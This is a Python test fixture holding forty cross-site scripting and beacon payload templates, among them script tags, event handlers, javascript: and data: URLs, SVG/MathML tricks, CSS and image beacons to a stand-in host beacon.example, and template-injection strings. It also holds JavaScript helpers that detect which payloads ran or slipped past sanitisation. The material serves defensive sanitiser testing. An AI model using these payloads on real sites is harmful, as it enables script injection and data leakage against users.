"""Forty ways to make a page run a script or tell another host that it was read, to stand in prompts and answers.

Each calls `ran(number)` or asks `b<number>.beacon.example`, so that what got through can be named.
"""

BEACON = "beacon.example"
TEMPLATES = (
    # scripts
    "<script>ran({n})</script>",
    "</textarea></title></style><ScRiPt>ran({n})</sCrIpT>",
    "<script src=//b{n}.beacon.example/x.js></script>",
    "<scr<script>ipt>ran({n})</scr</script>ipt>",
    "<script type=module>import 'http://b{n}.beacon.example/m.js'; ran({n})</script>",
    # event attributes
    "<img src=x onerror=ran({n})>",
    "<img src=x:x onerror&#61;ran({n}) oNeRrOr = 'ran({n})'>",
    "<svg/onload=ran({n})>",
    "<body onload=ran({n}) onpageshow=ran({n})>",
    "<input autofocus onfocus=ran({n})>",
    "<details open ontoggle=ran({n})><summary>x</summary></details>",
    "<video><source onerror=ran({n})></video>",
    "<style>@keyframes p{{}}</style><b style='animation:p 1s' onanimationstart=ran({n})>x</b>",
    '" onmouseover=ran({n}) autofocus onfocus=ran({n}) x="',
    # javascript: and data: addresses
    "<a href=javascript:ran({n}) ping=http://b{n}.beacon.example/p>x</a>",
    "[x](javascript:ran({n})) [y](JaVaScRiPt&colon;ran({n}))",
    "<a href=' &#1;j&#x61;v&#97;script:ran({n})'>x</a> <form action=javascript:ran({n})><button>x</button></form>",
    "<iframe src=\"javascript:parent.ran({n})\"></iframe><iframe srcdoc='<script>parent.ran({n})</script>'></iframe>",
    "<object data='data:text/html,<script>parent.ran({n})</script>'></object><embed src=//b{n}.beacon.example/e>",
    "![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9InJhbigpIi8+) <a href='data:text/html,<script>ran({n})</script>'>x",
    # svg, MathML, templates of browsers
    "<svg><script href=//b{n}.beacon.example/s.js /><animate onbegin=ran({n}) attributeName=x dur=1s></svg>",
    "<svg><use href='//b{n}.beacon.example/u.svg#a'/><image href=//b{n}.beacon.example/i.png /></svg>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=ran({n})&gt;'>",
    "<template shadowrootmode=open><img src=x onerror=ran({n})></template>",
    # style sheets
    "<style>@import url(http://b{n}.beacon.example/c.css); *{{background:url(//b{n}.beacon.example/b.png)}}</style>",
    "<p style=\"background-image:url('http://b{n}.beacon.example/q.png')\">x</p>",
    "<link rel=stylesheet href=//b{n}.beacon.example/l.css><link rel=prefetch href=//b{n}.beacon.example/f>",
    # beacons without a script
    "![status](http://b{n}.beacon.example/pixel.png?id=1)",
    "<img src=http://b{n}.beacon.example/p.gif srcset='//b{n}.beacon.example/2x.gif 2x' width=1 height=1>",
    "<meta http-equiv=refresh content='0;url=http://b{n}.beacon.example/'><base href=http://b{n}.beacon.example/>",
    "<video src=//b{n}.beacon.example/v.mp4 poster=//b{n}.beacon.example/v.png autoplay></video><audio autoplay src="
    "//b{n}.beacon.example/a.mp3>",
    "[x]: http://b{n}.beacon.example/ref.png\n![x][x] <http://b{n}.beacon.example/auto> http://b{n}.beacon.example/bare",
    # entities and unicode
    "&lt;img src=x onerror=ran({n})&gt; &#60;script&#62;ran({n})&#60;/script&#62;",
    "\u202e<img src=x onerror=ran({n})>\u202c \uff1cscript\uff1eran({n})\uff1c/script\uff1e",
    "<img\u2028src=x\u00a0onerror=ran({n})> <\u200bscript>ran({n})</script> %3Cscript%3Eran({n})%3C/script%3E",
    # the languages of templates, mathematics, diagrams, and of the pages themselves
    "${{ran({n})}} {{{{constructor.constructor('ran({n})')()}}}} #{{ran({n})}} <%= ran({n}) %>",
    "$\\href{{javascript:ran({n})}}{{x}}$ $$\\includegraphics{{http://b{n}.beacon.example/t.png}}$$ "
    "\\htmlData{{onclick=ran({n})}}{{x}}",
    ":red[<img src=x onerror=ran({n})>] :material/home: :image[http://b{n}.beacon.example/d.png]",
    '```mermaid\ngraph TD; a["<img src=http://b{n}.beacon.example/g onerror=ran({n})>"]; click a call ran({n})\n```',
    "\"}}]}};ran({n});//'--><img src='http://b{n}.beacon.example/j' onerror='ran({n})'> =HYPERLINK(\"http://b{n}.beacon.example\")",
)
PAYLOADS = tuple(template.format(n=n) for n, template in enumerate(TEMPLATES))
(LEADS_AWAY,) = (payload for payload in PAYLOADS if "http-equiv" in payload)
"""The one that replaces the document where it works: no policy forbids that, so escaping alone stands against it."""

WATCH = """
window.ranNumbers = []
window.ran = (n) => { window.ranNumbers.push(n) }
window.refusedByPolicy = []
document.addEventListener("securitypolicyviolation", (event) => {
  // a library of the pages themselves asks for WebAssembly, and does without
  if (event.blockedURI !== "wasm-eval") window.refusedByPolicy.push(`${event.violatedDirective} ${event.blockedURI}`)
})
"""
"""Run before anything on a page: counts what ran, and what the content policy had to stop."""
FOUND = """(beacon) => {
  const found = []
  const addresses = ["src", "srcset", "href", "xlink:href", "action", "formaction", "data", "poster", "ping",
                     "background", "srcdoc", "style"]
  const never = ["iframe", "object", "embed", "base", "math", "marquee"]
  // a link of ours may carry what somebody named in its query
  const ours = (name, value) => name === "href" && URL.canParse(value, location.href) &&
    new URL(value, location.href).origin === location.origin
  const attribute = (element, name, value) => {
    const led = value.includes(beacon) && !ours(name, value)
    const bad = led || /^\\s*(javascript|vbscript|data:text)/i.test(value) || /ran\\(/.test(value)
    if (/^on/i.test(name) || (addresses.includes(name) && bad)) found.push(`${element.localName} ${name}=${value}`)
  }
  const look = (root) => {
    for (const element of root.querySelectorAll("*")) {
      if (element.shadowRoot) look(element.shadowRoot)
      for (const { name, value } of element.attributes) attribute(element, name, value)
      const told = ["script", "style", "template"].includes(element.localName) ? element.textContent : ""
      const led = element.localName === "meta" && element.httpEquiv
      if (led || /ran\\(|beacon/.test(told) || never.includes(element.localName)) found.push(element.outerHTML)
    }
  }
  look(document)
  return found
}"""
"""Everything in a document that a payload could have put there, shadow trees included."""
SHOWN = """() => {
  const all = (root) => {
    const parts = [root.textContent, ...[...root.querySelectorAll("input, textarea")].map((field) => field.value)]
    for (const element of root.querySelectorAll("*")) if (element.shadowRoot) parts.push(all(element.shadowRoot))
    return parts.join(" ")
  }
  return all(document.body)
}"""
"""Every text of a document, that of fields and shadow trees too."""
